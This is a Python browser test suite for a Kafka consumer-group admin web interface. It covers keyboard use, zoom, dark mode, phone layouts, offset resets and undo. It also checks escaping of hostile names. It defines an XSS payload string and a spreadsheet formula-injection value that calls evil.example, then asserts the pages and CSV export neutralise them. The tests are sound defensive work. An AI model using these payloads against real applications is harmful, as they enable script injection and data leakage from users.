"""Every page and every flow in a real browser: by keyboard, enlarged, in the dark, on a phone, with hostile names."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple
from urllib.parse import quote

import pytest
from confluent_kafka import Consumer
from tests import acts
from tests.apache_kafka import require as require_apache_kafka
from tests.browser.opened import AXE, WHY_NOT, aside, expect, hindrances, opened
from tests.cli.stages import SETTINGS
from tests.live.stage import arrange
from tests.web.serving import Served, serving
from tools.apache_kafka import ApacheKafka

from groupkeeper.client.admin import Admin
from groupkeeper.client.admin.types import OffsetAndMetadata, TopicPartition
from groupkeeper.testing.background import BackgroundBroker

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page


pytestmark = [pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT), pytest.mark.timeout(180)]

EVIL = "<img src=x onerror=\"document.title='run'\">'&/\u202e<script>document.title='run'</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MEMBERS = "watchers"
TOKEN = "a-token-that-is-long-enough"


class Stage(NamedTuple):
    """A server with changes allowed. `paths`: an address of every page."""

    served: Served
    servers: str
    paths: list[str]

    def committed(self, group: str) -> int | None:
        async def ask() -> int | None:
            async with Admin(self.servers) as admin:
                found = (await admin.list_consumer_group_offsets({group: None})).result(group).done
            one = found.get(TopicPartition("orders", 0))
            return None if one is None else one.offset

        return aside(lambda: asyncio.run(ask()))


@pytest.fixture(scope="module", params=["groupkeeper", pytest.param("apache", marks=pytest.mark.conformance)])
def stage(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    if request.param == "apache":
        require_apache_kafka()
    folder = tmp_path_factory.mktemp("stage")
    (folder / "tokens").write_text(f"alice {TOKEN}\n")
    evil = json.dumps(EVIL)  # which is a string of TOML, too
    (folder / "rules").write_text(
        f"[[rule]]\nname = {evil}\nowner = {evil}\nmax_lag = 0\n"
        f'[[silence]]\ngroups = ["s*"]\nwhy = {evil}\nuntil = 2100-01-01T00:00:00Z\n'
    )

    async def add(servers: str) -> None:
        async with Admin(servers) as admin:
            tp = TopicPartition("orders", 0)
            for group_id in (EVIL, FORMULA):
                (await admin.alter_consumer_group_offsets(group_id, {tp: OffsetAndMetadata(2, None, EVIL)})).all()

    environment = pytest.MonkeyPatch()
    environment.setenv("GROUPKEEPER_JOURNAL", str(folder / "journal.jsonl"))
    with ApacheKafka(SETTINGS) if request.param == "apache" else BackgroundBroker() as broker:
        aside(lambda: arrange(broker.bootstrap_servers))
        aside(lambda: asyncio.run(add(broker.bootstrap_servers)))
        watcher = joined(broker.bootstrap_servers)
        where = ("--bootstrap-server", f"prod={broker.bootstrap_servers}", "--bootstrap-server", "dr=127.0.0.1:1")
        words: tuple[str, ...] = (
            "--allow-changes",
            "--token-file",
            str(folder / "tokens"),
            "--timeout",
            "2s",
            "--interval",
            "1h",
        )
        words += ("--rules", str(folder / "rules"))
        with serving(*where, *words) as served:
            served.until_ready()
            paths = ["/", "/cluster?cluster=prod", "/cluster?cluster=dr", "/group?cluster=prod&group=search"]
            paths += ["/topics?cluster=prod", "/topic?cluster=prod&topic=orders", "/change?cluster=prod&group=search"]
            paths += [
                "/sweep?cluster=prod",
                "/search?q=s",
                "/alerts",
                "/journal",
                "/plans",
                "/login",
                "/group?cluster=prod&group=nobody",
            ]
            paths += [f"/{page}?cluster=prod&group={MEMBERS}" for page in ("group", "change")] + ["/words"]
            yield Stage(served, broker.bootstrap_servers, paths)
        watcher.close()
    environment.undo()


def joined(servers: str) -> Consumer:
    """A member whose client id, and so its member id, is markup."""
    return acts.member(servers, MEMBERS, "orders", client={"client.id": EVIL})


class Person:
    """Uses pages by the keyboard alone."""

    def __init__(self, stage: Stage, page: Page) -> None:
        self.page = page
        self._base = f"http://{stage.served.address}"

    def open(self, path: str) -> None:
        self.page.goto(self._base + path)

    def go_to(self, said: str) -> None:
        """Press Tab until the element with these words has the focus, which is to be seen."""
        words = (
            "document.activeElement.getAttribute('aria-label') ?? "
            "(document.activeElement.labels?.[0] ?? document.activeElement).textContent"
        )
        seen = []
        for _ in range(120):
            self.page.keyboard.press("Tab")
            seen.append(self.page.evaluate(words))
            if seen[-1] == said:
                style = self.page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
                assert style != "none", f"one does not see that {said} has the focus"
                return
        raise AssertionError(f"Tab never comes to {said!r}, but to {seen}")

    def follow(self, said: str) -> None:
        """Go to a link or button, and press Enter."""
        self.go_to(said)
        with self.page.expect_navigation():
            self.page.keyboard.press("Enter")

    def give_token(self) -> None:
        """Type it into the field, which has the focus from the start."""
        expect(self.page.locator("[name=token]")).to_be_focused()
        self.page.keyboard.insert_text(TOKEN)
        self.page.keyboard.press("Enter")

    def log_in(self) -> None:
        self.open("/login")
        self.give_token()
        expect(self.page.locator("body")).to_contain_text("alice")

    @property
    def words(self) -> str:
        return " ".join(str(self.page.evaluate("document.querySelector('main').innerText")).split())


def test_a_reset_and_its_undo_by_keyboard(stage: Stage, browser: Browser) -> None:
    with opened(browser) as (page, complaints, _):
        alice = Person(stage, page)
        alice.open("/group?cluster=prod&group=search")
        assert alice.page.evaluate("document.title") == "Log in"
        alice.give_token()
        expect(page).to_have_title("search")  # where one wanted to go
        alice.follow("Reset, delete …")
        alice.go_to("the oldest record")
        for _ in range(5):  # a group of buttons is one stop; arrows choose
            page.keyboard.press("ArrowDown")
        assert page.evaluate("document.activeElement.value") == "shift"
        page.keyboard.press("Tab")
        page.keyboard.insert_text("5")
        alice.follow("Plan the reset")
        assert "Nothing is changed yet" in alice.words
        assert stage.committed("search") == 0
        alice.follow("Apply")
        assert "Applied by alice and read back: 1 partition" in alice.words
        assert stage.committed("search") == 5
        alice.follow("Plan the undo")
        alice.follow("Apply")
        assert stage.committed("search") == 0
        alice.follow("journal")
        alice.go_to("changes")  # a wide table can be scrolled by keyboard
        assert "undo" in alice.words
        alice.follow("log out")
        alice.open("/")
        assert page.evaluate("document.title") == "Log in"
        assert [each for each in complaints if "401" not in each] == []


def test_a_group_is_deleted_and_comes_back(stage: Stage, browser: Browser) -> None:
    with opened(browser) as (page, _, _):
        alice = Person(stage, page)
        alice.log_in()
        alice.open("/change?cluster=prod&group=audit")
        alice.follow("Plan the deletion of the group")
        assert "1 partition without a committed offset after the change" in alice.words
        alice.follow("Delete the group")
        assert "Deleted by alice, with 1 offset" in alice.words
        assert stage.committed("audit") is None
        alice.follow("Plan the undo")
        alice.follow("Apply")
        assert stage.committed("audit") == 8


def test_a_form_that_makes_no_sense_says_why(stage: Stage, browser: Browser) -> None:
    with opened(browser) as (page, _, _):
        alice = Person(stage, page)
        alice.log_in()
        alice.open("/change?cluster=prod&group=search")
        alice.go_to("the oldest record")
        for _ in range(4):
            page.keyboard.press("ArrowDown")
        page.keyboard.press("Tab")
        page.keyboard.insert_text("a while")
        alice.follow("Plan the reset")
        assert "how long ago: 'a while' is not a duration" in alice.words


@pytest.mark.parametrize(
    ("width", "scale", "is_dark"), [(1280, 1, False), (640, 2, False), (390, 1, True)], ids=["desk", "zoom", "phone"]
)
def test_every_page_keeps_within_the_window(
    stage: Stage, browser: Browser, width: int, scale: int, is_dark: bool
) -> None:
    """A window of 1280 at 200 % is one of 640 with twice the dots."""
    with opened(browser, width=width, is_dark=is_dark, scale=scale) as (page, complaints, _):
        alice = Person(stage, page)
        alice.log_in()
        for path in [*stage.paths, *made_paths(alice)]:
            alice.open(path)
            wide = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
            if wide[0] > wide[1]:
                outside = "!one.closest('.wide table') && one.getBoundingClientRect().right > innerWidth"
                over = f"[...document.querySelectorAll('main *')].filter((one) => {outside})"
                raise AssertionError((path, page.evaluate(f"{over}.map((one) => one.outerHTML.slice(0, 200)).join()")))
            buttons = "[...document.querySelectorAll('button,input:not([type=hidden]),select')]"
            outside = page.evaluate(
                f"{buttons}.filter((each) => each.getBoundingClientRect().right > innerWidth).length"
            )
            assert outside == 0, path
        assert [each for each in complaints if "404" not in each] == []


def made_paths(alice: Person) -> list[str]:
    """A plan that fits, one that is done, and a change of the journal."""
    alice.open("/change?cluster=prod&group=search")
    alice.page.evaluate("document.getElementById('to-current').click()")
    alice.follow("Plan the reset")
    path = str(alice.page.evaluate("location.pathname + location.search"))
    alice.open("/plans")
    done = alice.page.evaluate("[...document.links].find((link) => link.pathname === '/journal/change')?.href")
    return [path] if done is None else [path, "/" + str(done).split("/", 3)[3]]


@pytest.mark.long
@pytest.mark.skipif(AXE is None, reason="no axe-core: 'make browser' gets it")
@pytest.mark.parametrize("is_dark", [False, True], ids=["light", "dark"])
def test_nothing_keeps_people_from_using_a_page(stage: Stage, browser: Browser, is_dark: bool) -> None:
    found: dict[str, list[str]] = {}
    with opened(browser, is_dark=is_dark) as (page, _, _):
        alice = Person(stage, page)
        alice.log_in()
        for path in [*stage.paths, *made_paths(alice)]:
            alice.open(path)
            if said := hindrances(page):
                found[path] = said
    assert found == {}


def test_names_with_markup_are_names(stage: Stage, browser: Browser) -> None:
    with opened(browser) as (page, complaints, _):
        alice = Person(stage, page)
        alice.log_in()
        alice.open("/cluster?cluster=prod&q=%3Cimg")
        links = "[...document.links].map((link) => link.getAttribute('href'))"
        groups = [link for link in page.evaluate(links) if link.startswith("/group?") and "onerror" in link]
        assert len(groups) == 1
        change = groups[0].replace("/group", "/change")
        typed = quote(EVIL)
        asked = [
            f"/cluster?cluster={typed}",
            f"/cluster?cluster=prod&q={typed}&sort={typed}&page={typed}&state={typed}",
        ]
        asked += [f"/journal?group={typed}", f"/topics?cluster=prod&q={typed}", f"/topic?cluster=prod&topic={typed}"]
        asked += [f"/search?q={typed}", f"/plan?id={typed}", f"/journal/change?id={typed}", f"/nowhere/{typed}"]
        for path in [*stage.paths, *made_paths(alice), groups[0], change, *asked]:
            alice.open(path)
            assert page.evaluate("document.querySelectorAll('img,main script').length") == 0, path
            assert page.evaluate("document.title") != "run", path
        for path in (f"/group?cluster=prod&group={MEMBERS}", f"/change?cluster=prod&group={MEMBERS}"):
            alice.open(path)
            assert "<img src=x onerror=" in alice.words  # the client, as text
        alice.open(change)
        page.evaluate("document.getElementById('to-earliest').click()")
        alice.follow("Plan the reset")
        alice.follow("Apply")
        assert re.search(r"Applied by alice and read back: 1 partition", alice.words)
        assert page.evaluate("document.title") != "run"
        assert [each for each in complaints if "404" not in each] == []


def test_a_spreadsheet_gets_no_formula(stage: Stage, browser: Browser) -> None:
    with opened(browser) as (page, _, _):
        alice = Person(stage, page)
        alice.log_in()
        alice.open("/cluster?cluster=prod")
        with page.expect_download() as download:
            page.get_by_role("link", name="CSV").click()
        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
        names = {row["group"] for row in rows}
        assert {f"'{FORMULA}", EVIL} <= names
        dangerous = ("=", "+", "-", "@", "\t", "\r")
        values = [value for row in rows for value in row.values() if value.startswith(dangerous)]
        assert [value for value in values if not re.fullmatch(r"-?[0-9.e-]+", value)] == []
